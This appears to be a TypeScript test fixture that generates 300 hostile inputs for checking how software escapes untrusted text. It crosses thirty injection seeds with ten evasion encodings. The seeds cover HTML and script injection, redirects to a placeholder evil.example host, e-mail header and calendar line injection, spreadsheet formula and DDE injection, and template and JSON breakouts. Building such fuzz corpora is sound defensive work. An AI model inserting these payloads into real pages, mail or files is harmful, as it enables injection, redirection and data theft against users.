/** What people type, and models repeat, to make a page, an e-mail or a calendar do something else. */
const SEEDS = [
  '<x-canary>',
  '</title><x-canary>',
  '</script><script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<svg/onload=canary()>',
  '"><x-canary onclick="canary()">',
  "' onmouseover='canary()' x='",
  '<a href="https://evil.example/canary">here</a>',
  '<a href="javascript:canary()">here</a>',
  '<iframe src=//evil.example>',
  '<!--<x-canary>-->',
  ']]><x-canary>',
  '<?xml-stylesheet href="//evil.example"?>',
  '<style>@import "//evil.example"</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  'x\r\nBcc: canary@evil.example',
  'x\nSet-Cookie: canary=1',
  'x%0d%0aSet-Cookie:%20canary=1',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-CANARY:1',
  'x\\nX-CANARY:1',
  'x;X-CANARY=1:y,z',
  'x\u2028X-CANARY:1\u2029',
  '=HYPERLINK("https://evil.example","x")',
  '+cmd|canary!A1',
  '@SUM(canary)',
  '{{canary}}${canary}#{canary}<%= canary %>',
  '[x](https://evil.example/canary)',
  '","canary":true,"x":"',
  '\\u003cx-canary\\u003e',
]

const DRESSED: ((text: string) => string)[] = [
  (text) => text,
  (text) => `Wien ${text}`,
  (text) => `${text} München`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => `\u202e${text}`,
  (text) => text.split('').join('\u200b'),
  (text) => encodeURIComponent(text),
  (text) => `\uFEFF\u0000${text}`,
]

/** 300 texts: thirty attacks in ten dresses. */
export const HOSTILE_INPUTS: readonly string[] = SEEDS.flatMap((seed) => DRESSED.map((dress) => dress(seed)))
